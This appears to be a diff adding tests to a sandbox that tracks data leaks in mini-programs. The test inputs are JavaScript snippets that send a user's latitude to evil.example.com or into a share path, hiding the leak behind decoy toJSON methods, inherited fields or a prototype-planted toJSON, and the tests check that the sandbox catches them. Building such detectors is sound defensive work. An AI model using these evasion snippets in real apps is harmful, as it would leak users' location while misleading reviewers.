@@ -8,7 +8,9 @@ import json
 import pytest
 
 from mpsandbox.apis.canary import CanaryRegistry
+from mpsandbox.runtime.sandbox import Sandbox
 
+from ..runtime.fakebundle import FakeBundle
 from .helpers import run_js
 
 LOC = {"permission": {"scope.userLocation": {"desc": "near you"}}}
@@ -120,3 +122,35 @@ def test_canary_search_reads_binary_texts_and_numbers():
     for _ in range(5000):  # far past Python's recursion limit
         deep = [deep]
     assert [h.canary.kind for h in reg.scan(deep)] == ["phoneNumber"]
+
+
+@pytest.mark.parametrize("call", [
+    # the platform reads url and data field by field: a toJSON of the options object never runs there
+    "tt.request({ url: 'https://evil.example.com/?lat=' + r.latitude,"
+    " toJSON() { return { url: 'https://api.example.com/' } } });",
+    # inherited fields are read too
+    "tt.request(Object.create({ url: 'https://evil.example.com/', data: { lat: r.latitude } }));",
+    # a toJSON planted on Object.prototype runs on the data, as the platform's JSON.stringify runs it
+    "Object.prototype.toJSON = function () { return this.tag ? { lat: r.latitude } : this };"
+    " tt.request({ url: 'https://evil.example.com/', data: { tag: 1 } }); delete Object.prototype.toJSON;",
+], ids=["own-toJSON-on-options", "inherited-options", "planted-toJSON-on-data"])
+def test_options_are_read_as_the_platform_reads_them(engine_name, call):
+    run = located(call, engine_name)
+    flows = flow_to(run, "request")
+    assert flows and flows[0].destination == "evil.example.com", run.flows()
+    assert [c.domain for c in run.trace.api_calls("request")] == ["evil.example.com"]
+
+
+def test_a_share_payload_is_read_field_by_field(engine_name):
+    bundle = FakeBundle({"app.js": "App({})", "app.json": json.dumps({"pages": ["pages/p/p"], **LOC}),
+                         "pages/p/p.js": "Page({ go() { tt.getLocation({ success: (r) => { this.lat = r.latitude } }) },"
+                                         " onShareAppMessage() { const p = { path: '/pages/p/p?lat=' + this.lat,"
+                                         " toJSON() { return { path: '/pages/p/p' } } }; p.self = p; return p } })"})
+    with Sandbox(bundle, engine=engine_name) as sb:
+        sb.launch()
+        sb.run()
+        sb.tap("go")
+        sb.run()
+        sb.trigger("onShareAppMessage", {"from": "menu"})
+        trace = sb.finish()
+    assert [f.sink for f in trace.of_kind("flow")] == ["share"]
